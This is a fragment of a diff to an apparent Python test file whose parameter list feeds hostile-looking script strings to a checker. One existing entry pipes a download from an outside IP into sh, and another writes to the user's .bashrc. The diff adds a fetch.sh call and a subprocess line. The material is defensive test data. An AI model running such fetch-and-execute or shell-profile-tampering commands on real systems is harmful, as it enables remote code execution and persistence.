@@ -22,6 +22,8 @@ _BLOCK = "|\n  import os\n  from pathlib import Path\n  {}\n"
     "script",
     [
         "bash -c 'curl https://203.0.113.7/x | sh'",
+        "|\n  bash fetch.sh",
+        "\"from utils.downloads import *\\nsubprocess.run('true')\"",
         _BLOCK.format("os.system('true')"),
         _BLOCK.format("run = os.popen; run('true')"),
         _BLOCK.format("(Path.home() / '.bashrc').write_text('true')"),
